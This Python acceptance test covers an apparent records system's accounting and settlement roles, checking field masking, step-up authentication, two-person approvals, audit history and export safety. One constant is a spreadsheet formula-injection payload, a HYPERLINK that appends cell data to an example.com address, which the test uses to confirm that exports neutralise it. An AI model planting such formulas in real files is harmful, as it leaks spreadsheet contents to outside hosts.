"""What accounting and settlement do all day, and what others see of it."""

from __future__ import annotations

import csv
import io
from typing import Any

import openpyxl

from tests.acceptance.departments.office import HIDDEN, NO_BANK, Office, money

ACCOUNT, OTHER_ACCOUNT = "9990123456789", "9990987654321"
FORMULA = '=HYPERLINK("http://example.com/"&A1,"pay")'
SUPPLIER = {
    "name": "Công ty Bao Bì Mẫu",
    "country": "VN",
    "contact": "Trịnh Văn Sáu",
    "email": "sau.trinh@example.vn",
    "bank": "Ngân hàng Mẫu Việt",
    "bank_account": ACCOUNT,
    "credit_limit": money(500_000_000),
    "since": "2024-03-01",
}
PAYMENT = {
    "invoice": "inv-0907",
    "payee": "Công ty Bao Bì Mẫu",
    "amount": money(64_350_000),
    "bank": "Ngân hàng Mẫu Việt",
    "bank_account": ACCOUNT,
    "method": "bank_transfer",
    "due_on": "2026-11-30",
    "reference": FORMULA,
    "status": "planned",
}


def accounting(office: Office) -> None:
    """A supplier is paid, whom one enters and another releases."""
    office.store("accounting-head", "suppliers", "ncc-1", SUPPLIER)
    other = {**SUPPLIER, "name": "Công ty Nhãn Mẫu", "bank_account": OTHER_ACCOUNT}
    office.store("accounting-head", "suppliers", "ncc-2", other)
    _find_by_account(office)
    _pay(office)
    _export(office)
    office.sees_nothing("hr-head", "payments", "pay-1", "bank_account")
    office.sees_nothing("settlement-clerk", "suppliers", "ncc-1", "bank_account")


def _find_by_account(office: Office) -> None:
    where = {"bank_account": "9990 1234 56789"}
    search = "/records/suppliers/search"
    # A clerk sees no account, a head masked ones; who releases money reads them.
    for who in ("accounting-clerk", "accounting-head"):
        office.no("refused", "POST", search, who, {"where": where})
    office.no("step-up-required", "POST", search, "treasurer", {"where": where})
    office.show_factor("treasurer")
    page = office.ok("POST", search, "treasurer", {"where": where})
    (found,) = page["records"]
    assert (found["id"], page["next"]) == ("ncc-1", None)
    assert found["fields"] == SUPPLIER
    assert office.found("treasurer", "suppliers", {"bank_account": {"last": "4321"}}) == ["ncc-2"]
    assert office.found("treasurer", "suppliers", {"bank_account": "9990123456788"}) == []
    clerk = office.read("accounting-clerk", "suppliers", "ncc-1")
    assert clerk["fields"] == {
        name: value
        for name, value in SUPPLIER.items()
        if name not in ("bank_account", "credit_limit")
    }
    assert clerk["masked"] == {"credit_limit": HIDDEN}
    assert clerk["withheld"] == {"bank_account": f"The field bank_account {NO_BANK}"}
    approval = "/records/suppliers/ncc-1/approval"
    office.no("refused", "POST", approval, "accounting-head", If_Match='"1"')
    kept = office.ok("POST", approval, "treasurer", If_Match='"1"')
    assert kept["release"]["approved_by"] == office.subjects["treasurer"]


def _pay(office: Office) -> None:
    entered = office.store("accounting-head", "payments", "pay-1", PAYMENT)
    assert entered["release"] == {"state": "draft", "approved_by": None, "approved_at": None}
    assert entered["masked"] == {"bank_account": "•••6789"}
    # Clerks do not say where money goes; the treasurer enters nothing at all.
    for who in ("accounting-clerk", "treasurer"):
        office.no("refused", "POST", "/records/payments", who,
                  {"id": "pay-2", "fields": PAYMENT})  # fmt: skip
    approval = "/records/payments/pay-1/approval"
    office.no("refused", "POST", approval, "accounting-head", If_Match='"1"')
    released = office.ok("POST", approval, "treasurer", If_Match='"1"')
    assert released["release"]["state"] == "approved"
    assert released["fields"]["bank_account"] == ACCOUNT
    # Sent elsewhere after that, it is a draft again, of which the old approval says nothing.
    change = {"fields": {"bank_account": OTHER_ACCOUNT}}
    changed = office.ok("PATCH", "/records/payments/pay-1", "accounting-head", change,
                        If_Match='"1"')  # fmt: skip
    assert (changed["version"], changed["release"]["state"]) == (2, "draft")
    office.no("version-mismatch", "POST", approval, "treasurer", If_Match='"1"')
    assert (
        office.ok("POST", approval, "treasurer", If_Match='"2"')["release"]["approved_by"]
        == (office.subjects["treasurer"])
    )
    paid = {"fields": {"status": "paid", "paid_on": "2026-11-25"}}
    office.ok("PATCH", "/records/payments/pay-1", "accounting-clerk", paid, If_Match='"2"')
    assert office.deeds("accounting-head", "payments", "pay-1") == [
        ("record.create", 1, "accounting-head"),
        ("record.approve", 1, "treasurer"),
        ("record.update", 2, "accounting-head"),
        ("record.approve", 2, "treasurer"),
        ("record.update", 3, "accounting-clerk"),
    ]
    office.no("refused", "GET", "/records/payments/pay-1/history", "accounting-clerk")


def _export(office: Office) -> None:
    asked = {"collection": "payments", "reason": "the audit of 2026"}
    office.no("refused", "POST", "/exports", "accounting-clerk", asked)
    office.no("refused", "POST", "/exports", "treasurer", asked)
    office.no("step-up-required", "POST", "/exports", "accounting-head", asked)
    office.show_factor("accounting-head")
    content, manifest = office.exported("accounting-head", {**asked, "format": "xlsx"})
    assert manifest["records"] == 1
    assert manifest["exported_by"]["subject"] == office.subjects["accounting-head"]
    assert manifest["reason"] == "the audit of 2026"
    assert manifest["fields"]["bank_account"] == "masked"
    sheet: Any = openpyxl.load_workbook(io.BytesIO(content)).active
    heads, row = sheet.iter_rows()
    cells = {head.value: cell for head, cell in zip(heads, row, strict=True)}
    assert cells["reference"].value == FORMULA
    # A text, also once somebody edits it, and no formula.
    assert (cells["reference"].data_type, cells["reference"].number_format) == ("s", "@")
    assert cells["amount"].value == 64_350_000
    assert cells["amount_currency"].value == "VND"
    assert cells["bank_account_masked"].value == "•••4321"
    assert "bank_account" not in cells
    content, _ = office.exported("accounting-head", {**asked, "format": "csv"})
    (line,) = csv.DictReader(io.StringIO(content.decode("utf-8-sig")))
    assert line["reference"] == f"'{FORMULA}"
    assert OTHER_ACCOUNT.encode() not in content
    where = {"where": {"reference": "nothing of it"}}
    _, manifest = office.exported("accounting-head", {**asked, **where})
    assert manifest["records"] == 0


TRANSFER = {
    "reference": "FT26330000001",
    "channel": "high_value",
    "booked_at": "2026-11-24T03:15:00Z",
    "value_date": "2026-11-24",
    "debtor": "Bùi Thị Ngân",
    "debtor_account": "9990555000111",
    "creditor": "Công ty Xây Dựng Mẫu",
    "creditor_account": "9990555000222",
    "amount": money(1_250_000_000),
    "fee": money(55_000),
    "screened": True,
    "status": "pending",
}
CARD = "4111111111111111"
DISPUTE = {
    "transaction": "trx-1",
    "cardholder": "Bùi Thị Ngân",
    "card": CARD,
    "refund_iban": "DE89370400440532013000",
    "amount": money(3_900_000),
    "reason": "not_authorised",
    "received_on": "2026-11-20",
    "statement": "Tôi không thực hiện giao dịch này.",
    "status": "open",
}


def settlement(office: Office) -> None:
    """A transfer is booked, and a dispute over a card settled."""
    office.store("settlement-head", "transactions", "trx-1", TRANSFER)
    office.store("settlement-head", "disputes", "dis-1", DISPUTE)
    another = {**DISPUTE, "cardholder": "Cao Văn Lộc", "card": "5555555555554444"}
    office.store("settlement-head", "disputes", "dis-2", another)
    _settle(office)
    _dispute(office)
    office.sees_nothing("treasurer", "transactions", "trx-1", "amount")
    office.sees_nothing("accounting-head", "disputes", "dis-1", "card")


def _settle(office: Office) -> None:
    clerk = office.read("settlement-clerk", "transactions", "trx-1")
    assert clerk["fields"] == {
        **{
            name: value
            for name, value in TRANSFER.items()
            if name not in ("debtor_account", "creditor_account", "amount", "fee")
        },
        "booked_at": "2026-11-24T03:15:00.000000Z",
    }
    assert clerk["masked"] == {"fee": HIDDEN}
    assert sorted(clerk["withheld"]) == ["amount", "creditor_account", "debtor_account"]
    head = office.read("settlement-head", "transactions", "trx-1")
    assert head["fields"]["fee"] == money(55_000)
    assert head["masked"] == {
        "debtor_account": "•••0111",
        "creditor_account": "•••0222",
        "amount": HIDDEN,
    }
    approval = "/records/transactions/trx-1/approval"
    office.no("refused", "POST", approval, "settlement-head", If_Match='"1"')
    office.no("refused", "POST", approval, "settlement-clerk", If_Match='"1"')
    released = office.ok("POST", approval, "settlement-deputy", If_Match='"1"')
    assert released["release"]["approved_by"] == office.subjects["settlement-deputy"]
    # The clerk follows it through, and says nothing of accounts and amounts.
    place = "/records/transactions/trx-1"
    status = {"fields": {"status": "settled"}}
    settled = office.ok("PATCH", place, "settlement-clerk", status, If_Match='"1"')
    assert settled["fields"]["status"] == "settled"
    elsewhere = {"fields": {"creditor_account": "9990555000333"}}
    office.no("refused", "PATCH", place, "settlement-clerk", elsewhere, If_Match='"2"')
    assert office.deeds("auditor", "transactions", "trx-1") == [
        ("record.create", 1, "settlement-head"),
        ("record.approve", 1, "settlement-deputy"),
        ("record.update", 2, "settlement-clerk"),
    ]


def _dispute(office: Office) -> None:
    assert office.found("settlement-clerk", "disputes", {"cardholder": "bùi thị ngân"}) == ["dis-1"]
    assert office.found("settlement-clerk", "disputes", {"cardholder": {"prefix": "cao v"}}) == [
        "dis-2"
    ]
    head = office.read("settlement-head", "disputes", "dis-1")
    assert head["masked"] == {"card": "•••1111", "refund_iban": "DE•••3000", "amount": HIDDEN}
    search = "/records/disputes/search"
    where = {"card": {"last": "1111"}}
    office.no("refused", "POST", search, "settlement-clerk", {"where": where})
    office.no("step-up-required", "POST", search, "settlement-head", {"where": where})
    office.show_factor("settlement-head")
    (found,) = office.ok("POST", search, "settlement-head", {"where": where})["records"]
    assert (found["id"], found["fields"], found["masked"]) == ("dis-1", DISPUTE, {})
    between = {"amount": {"from": money(3_000_000), "to": money(4_000_000)}, "status": "open"}
    assert office.found("settlement-head", "disputes", between) == ["dis-1", "dis-2"]
    card = "/records/disputes/dis-1/fields/card"
    assert office.ok("GET", card, "settlement-head") == {"value": CARD}
    office.no("refused", "GET", card, "settlement-clerk")
    told = office("GET", "/records/disputes/dis-1/history", "auditor")
    read = [
        one["outcome"]
        for one in told.json()["events"]
        if (one["kind"], one["fields"], one["actor"])
        == ("record.read", ["card"], office.subjects["settlement-head"])
    ]
    assert read == ["ok"]
    assert CARD not in told.text
    closed = {"fields": {"status": "refunded", "closed_on": "2026-11-25"}}
    seen = office.ok("PATCH", "/records/disputes/dis-1", "settlement-clerk", closed,
                     If_Match='"1"')  # fmt: skip
    assert (seen["fields"]["status"], seen["version"]) == ("refunded", 2)
    assert sorted(seen["withheld"]) == ["amount", "card", "refund_iban"]
    assert office.found("settlement-clerk", "disputes", {"status": "open"}) == ["dis-2"]
